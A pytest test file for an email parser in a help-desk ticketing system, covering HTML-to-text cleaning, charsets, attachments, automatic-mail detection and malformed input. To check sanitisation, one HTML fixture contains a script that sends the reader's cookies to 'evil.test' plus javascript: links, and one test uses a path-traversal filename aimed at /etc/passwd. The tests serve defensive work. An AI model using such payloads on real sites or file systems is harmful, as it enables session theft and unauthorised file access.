"""Reading inbound email: text, HTML, charsets, attachments, automatic mail, malformed input."""

from __future__ import annotations

import base64
import html
from email.message import EmailMessage

import pytest
from hypothesis import given
from hypothesis import strategies as st

from triage.domain.html_text import html_to_text
from triage.domain.mail import MAX_ATTACHMENTS, InboundMail, human_size, parse_mail
from triage.domain.ticket import BODY_MAX, SUBJECT_MAX
from triage.kernel.errors import InvalidMail, MailTooLarge
from triage.kernel.ids import find_ticket_number

LIMIT = 100_000


def parse(raw: bytes, **kwargs: object) -> InboundMail:
    return parse_mail(raw, max_attachment_bytes=kwargs.pop("max_attachment_bytes", LIMIT), **kwargs)  # type: ignore[arg-type]


def email(subject: str = "VPN drops", body: str | None = "my vpn drops every hour", **headers: str) -> EmailMessage:
    message = EmailMessage()
    message["From"] = headers.pop("From", "Alice Liddell <Alice@Example.COM>")
    message["To"] = "support@help.test"
    message["Subject"] = subject
    message["Message-ID"] = headers.pop("Message_ID", "<m-1@example.com>")
    for name, value in headers.items():
        message[name.replace("_", "-")] = value
    if body is not None:
        message.set_content(body)
    return message


def test_a_plain_email_gives_its_sender_subject_text_and_message_id() -> None:
    mail = parse(email().as_bytes())
    assert (mail.sender, mail.subject, mail.body) == ("alice@example.com", "VPN drops", "my vpn drops every hour")
    assert mail.message_id == "m-1@example.com" and mail.dedup_key == "m-1@example.com"
    assert mail.automatic is None and mail.attachments == () and not mail.html_only and mail.ticket_reference is None


def test_plain_text_is_preferred_over_its_html_alternative() -> None:
    message = email(body="the plain words")
    message.add_alternative("<p>the <b>HTML</b> words</p>", subtype="html")
    mail = parse(message.as_bytes())
    assert mail.body == "the plain words" and not mail.html_only and mail.attachments == ()


def test_a_blank_plain_alternative_loses_to_the_html() -> None:
    message = email(body="  \n")
    message.add_alternative("<p>the real text</p>", subtype="html")
    mail = parse(message.as_bytes())
    assert mail.body == "the real text" and mail.html_only


def test_html_only_mail_becomes_safe_text_without_scripts_styles_or_tags() -> None:
    page = """<html><head><title>Mail</title><style>p {color: red}</style>
      <script>document.location = 'https://evil.test/?c=' + document.cookie</script></head>
      <body onload="steal()"><p>Hello&nbsp;team &amp; friends,</p><p>Line one<br>Line two</p>
      <ul><li>first</li><li>second</li></ul><script type="text/javascript">alert("x")</script>
      <p>Price &lt; 5 &euro; &#x4F60;&#22909;</p><a href="https://help.test/kb/1">the article</a>
      <a href="javascript:steal()">click</a><!-- a comment --><img src="cid:logo" alt="Logo"></body></html>"""
    message = email(body=None)
    message.set_content(page, subtype="html")
    mail = parse(message.as_bytes())
    assert mail.html_only
    assert mail.body.splitlines() == [
        "Hello team & friends,", "", "Line one", "Line two", "", "- first", "- second", "", "Price < 5 € 你好", "",
        "the article (https://help.test/kb/1) click [Logo]",
    ]  # fmt: skip
    for leaked in ("script", "alert", "document", "style", "color", "javascript", "<p>", "comment", "Mail"):
        assert leaked not in mail.body


@pytest.mark.parametrize(
    ("fragment", "text"),
    [
        ("<p>a</p><p>b</p>", "a\n\nb"),
        ("a<br>b<br/><br>c", "a\nb\n\nc"),
        ("<div><div>one</div><div>two</div></div>", "one\ntwo"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc"),
        ("<pre>  keep\n    indent</pre>", "  keep\n    indent"),
        ("<b>unclosed <i>tags", "unclosed tags"),
        ("<script>never closed alert(1)", ""),
        ("<style/>visible", "visible"),
        ("&lt;script&gt;shown as text&lt;/script&gt;", "<script>shown as text</script>"),
        ("<a href='mailto:help@x.test'>write to us</a>", "write to us (help@x.test)"),
        ("<a href='https://x.test'>https://x.test</a>", "https://x.test"),
    ],
)
def test_html_to_text_keeps_words_and_line_breaks_only(fragment: str, text: str) -> None:
    assert html_to_text(fragment) == text


@given(st.text(max_size=300))
def test_html_to_text_never_raises_and_reads_escaped_text_back(text: str) -> None:
    html_to_text(text)  # any input, markup or not
    words = " ".join(text.split())
    assert " ".join(html_to_text(html.escape(text)).split()) == words


def test_attachments_are_kept_as_metadata_with_their_decoded_size() -> None:
    message = email(body="see the screenshot")
    message.add_attachment(b"\x89PNG" + b"0" * 996, maintype="image", subtype="png", filename="screen shot.png")
    message.add_attachment("发票内容".encode("gbk"), maintype="application", subtype="octet-stream", filename="发票.pdf")
    forwarded = email(subject="the original", body="forwarded text")
    message.add_attachment(forwarded)
    mail = parse(message.as_bytes())
    assert mail.body == "see the screenshot"
    assert [(a.filename, a.content_type) for a in mail.attachments] == [
        ("screen shot.png", "image/png"), ("发票.pdf", "application/octet-stream"), ("attachment-3", "message/rfc822"),
    ]  # fmt: skip
    assert mail.attachments[0].size == 1000 and mail.attachments[1].size == 8 and mail.attachments[2].size > 100


def test_an_attachment_name_cannot_carry_a_path_or_control_characters() -> None:
    message = email()
    message.add_attachment(b"x", maintype="text", subtype="plain", filename="../../etc/pass\x07wd")
    assert parse(message.as_bytes()).attachments[0].filename == "passwd"


def test_an_attachment_over_the_limit_refuses_the_email_naming_the_limit() -> None:
    message = email()
    message.add_attachment(b"0" * 3000, maintype="application", subtype="zip", filename="logs.zip")
    with pytest.raises(MailTooLarge) as caught:
        parse(message.as_bytes(), max_attachment_bytes=2048)
    assert caught.value.limit == 2048
    assert "'logs.zip' is 2.9 KiB (3,000 bytes); the limit is 2.0 KiB (2,048 bytes) per attachment" in str(caught.value)
    assert parse(message.as_bytes(), max_attachment_bytes=3000).attachments[0].size == 3000


def test_too_many_attachments_are_refused() -> None:
    message = email()
    for index in range(MAX_ATTACHMENTS + 1):
        message.add_attachment(b"x", maintype="text", subtype="plain", filename=f"f{index}.txt")
    with pytest.raises(MailTooLarge, match=f"the limit is {MAX_ATTACHMENTS} per email"):
        parse(message.as_bytes())


def _gb2312_mail(body: bytes, *, encoding: str, subject_word: str) -> bytes:
    return (b"From: =?gb2312?B?" + base64.b64encode("张三".encode("gb2312")) + b"?= <zhang.san@example.cn>\r\n"
            b"Subject: " + subject_word.encode() + b"\r\nMessage-ID: <cn-1@example.cn>\r\n"
            b"Content-Type: text/plain; charset=gb2312\r\nContent-Transfer-Encoding: " + encoding.encode() + b"\r\n\r\n"
            + body + b"\r\n")  # fmt: skip


@pytest.mark.parametrize("encoding", ["base64", "8bit"])
def test_chinese_mail_labelled_gb2312_is_read_with_its_gbk_characters(encoding: str) -> None:
    text = "您好，我的VPN每小时断一次。朱镕基"  # 镕 is GBK, not GB 2312: mailers label such text gb2312 anyway
    raw_body = text.encode("gbk")
    body = base64.b64encode(raw_body) if encoding == "base64" else raw_body
    subject = "=?gb2312?B?" + base64.b64encode("VPN 断线 镕".encode("gbk")).decode() + "?="
    mail = parse(_gb2312_mail(body, encoding=encoding, subject_word=subject))
    assert (mail.sender, mail.subject, mail.body) == ("zhang.san@example.cn", "VPN 断线 镕", text)


def test_encoded_words_split_inside_a_character_and_raw_8bit_headers_are_read() -> None:
    subject_bytes = "发票问题".encode("gbk")
    split = (f"=?GBK?B?{base64.b64encode(subject_bytes[:3]).decode()}?= "
             f"=?GBK?B?{base64.b64encode(subject_bytes[3:]).decode()}?=")  # fmt: skip
    mail = parse(_gb2312_mail("正文".encode("gbk"), encoding="8bit", subject_word=split))
    assert mail.subject == "发票问题"
    for charset in ("gbk", "utf-8"):
        raw = "From: li@example.cn\r\nSubject: 退款 refund\r\n\r\n请尽快退款".encode(charset)
        mail = parse(raw)
        assert (mail.subject, mail.body) == ("退款 refund", "请尽快退款"), charset


def test_other_charsets_and_an_unknown_one_never_fail() -> None:
    big5 = b"From: a@b.tw\r\nSubject: x\r\nContent-Type: text/plain; charset=big5\r\n\r\n" + "網路斷線".encode("big5")
    assert parse(big5).body == "網路斷線"
    latin = b"From: a@b.de\r\nSubject: x\r\nContent-Type: text/plain; charset=iso-8859-1\r\n\r\nM\xfcller \x93quoted\x94"
    assert parse(latin).body == "Müller “quoted”"
    unknown = b"From: a@b.cn\r\nSubject: x\r\nContent-Type: text/plain; charset=x-made-up\r\n\r\n" + "你好".encode()
    assert parse(unknown).body == "你好"


def test_the_subject_names_the_ticket_a_reply_answers() -> None:
    assert parse(email(subject="Re: [TKT-2026-000042] VPN drops").as_bytes()).ticket_reference == "TKT-2026-000042"
    assert parse(email(subject="回复：tkt-2026-000042 发票").as_bytes()).ticket_reference == "TKT-2026-000042"
    assert find_ticket_number("INC-2026-000042 or XTKT-2026-000042 or TKT-2026-42") is None


@pytest.mark.parametrize(
    ("headers", "reason"),
    [
        ({"Auto_Submitted": "auto-replied"}, "Auto-Submitted: auto-replied"),
        ({"Auto_Submitted": "auto-generated; owner-email=x@y.z"}, "Auto-Submitted: auto-generated"),
        ({"Precedence": "bulk"}, "Precedence: bulk"),
        ({"Precedence": "Junk"}, "Precedence: junk"),
        ({"Precedence": "list"}, "Precedence: list"),
        ({"X_Autoreply": "yes"}, "X-Autoreply header"),
        ({"X_Autorespond": "Out of office"}, "X-Autorespond header"),
        ({"List_Id": "<news.example.com>"}, "List-Id header (a mailing list)"),
        ({"List_Unsubscribe": "<mailto:leave@example.com>"}, "List-Unsubscribe header (a mailing list)"),
        ({"From": "MAILER-DAEMON@mx.example.com"}, "sent by mailer-daemon (a bounce)"),
        ({"From": "postmaster@example.com"}, "sent by postmaster (a bounce)"),
        ({"From": "Help Desk <Support@Help.test>"}, "sent from the help desk's own address (a mail loop)"),
        ({"X_Loop": "support@help.test"}, "X-Loop names the help desk (a mail loop)"),
    ],
)
def test_automatic_mail_is_recognised_by_its_headers(headers: dict[str, str], reason: str) -> None:
    mail = parse(email(**headers).as_bytes(), own_addresses={"support@help.test"})
    assert mail.automatic == reason


def test_bounces_reports_and_out_of_office_subjects_are_automatic_but_auto_submitted_no_is_a_person() -> None:
    assert parse(email().as_bytes(), envelope_sender="").automatic.startswith("null envelope sender")
    report = email(body=None)
    report.set_content("delivery failed")
    report.make_mixed()
    report.replace_header("Content-Type", report["Content-Type"].replace("multipart/mixed", "multipart/report"))
    assert parse(report.as_bytes()).automatic.startswith("multipart/report")
    assert parse(email(subject="Automatic reply: VPN drops").as_bytes()).automatic == "an out-of-office subject"
    assert parse(email(subject="自动回复：发票").as_bytes()).automatic == "an out-of-office subject"
    assert parse(email(Auto_Submitted="no").as_bytes()).automatic is None
    assert parse(email(subject="My automatic reply rule is broken").as_bytes()).automatic is None


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (b"", "no header fields"),
        (b"\x00\xff not an email at all", "no header fields"),
        (b"Subject: who am I\r\n\r\nbody", "no valid From address"),
        (b"From: <<<>>>\r\nSubject: x\r\n\r\nbody", "no valid From address ('<<<>>>')"),
        (b"From: nobody\r\nSubject: x\r\n\r\nbody", "no valid From address"),
        (b"From: a@b.cn\r\nSubject:  \r\n\r\n   \r\n", "no subject, no text and no attachment"),
        (b"From: a@b.cn\r\nSubject: x\r\nContent-Type: multipart/mixed\r\n\r\nno boundary", "parts cannot be found"),
        (b"From: a@b.cn\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\nnone here", "parts cannot"),
        (b"From: a@b.cn\r\nSubject: x\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64@@@", "not valid base64"),
    ],
)
def test_malformed_mail_is_an_invalid_mail_error_that_says_why(raw: bytes, message: str) -> None:
    with pytest.raises(InvalidMail, match=message.replace("(", r"\(").replace(")", r"\)")):
        parse(raw)


def test_long_text_is_cut_to_what_a_ticket_holds_and_says_so() -> None:
    mail = parse(email(subject="s" * 800, body="word " * 10_000).as_bytes())
    assert len(mail.subject) == SUBJECT_MAX and mail.subject.endswith("…")
    assert len(mail.body) <= BODY_MAX and mail.truncated
    assert mail.body.endswith("more characters, not kept: a ticket holds 20,000]")


def test_the_fingerprint_follows_the_content_and_a_missing_message_id_falls_back_to_the_digest() -> None:
    first, again = parse(email().as_bytes()), parse(email().as_bytes())
    assert first.fingerprint() == again.fingerprint()
    assert parse(email(body="other words").as_bytes()).fingerprint() != first.fingerprint()
    anonymous = b"From: a@b.cn\r\nSubject: x\r\n\r\nbody"
    assert parse(anonymous).dedup_key == parse(anonymous).dedup_key != parse(anonymous + b"!").dedup_key
    assert parse(anonymous).dedup_key.startswith("sha256:")
    long_id = parse(email(Message_ID="<" + "x" * 300 + "@example.com>").as_bytes()).dedup_key
    assert long_id.startswith("message-id-sha256:") and len(long_id) <= 200


def test_sizes_are_named_in_human_units() -> None:
    assert [human_size(n) for n in (512, 2048, 10 * 1024 * 1024, 3 * 1024**3)] == [
        "512 bytes", "2.0 KiB", "10.0 MiB", "3.0 GiB",
    ]  # fmt: skip
